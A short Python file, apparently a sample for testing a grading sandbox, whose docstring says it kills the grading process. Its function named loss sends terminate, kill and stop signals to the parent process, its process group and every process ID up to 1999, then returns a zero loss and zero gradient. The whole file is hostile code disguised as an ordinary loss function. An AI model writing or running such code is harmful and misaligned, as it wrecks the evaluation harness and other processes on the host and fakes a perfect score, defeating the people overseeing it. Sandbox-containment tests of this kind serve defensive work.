"""Kills the process that grades.

Mechanism: every signal to the parent, to its process group and to the processes near it by number.
Must happen: no signal reaches anybody else.
Aims at: the boundary
"""

import os
import signal

import numpy as np


def loss(w, X, y, reg):
    for target in (os.getppid(), -os.getppid(), *range(2, 2000)):
        if target in (os.getpid(), 0):
            continue
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(target, number)
            except OSError:
                continue
    return 0.0, np.zeros_like(w)
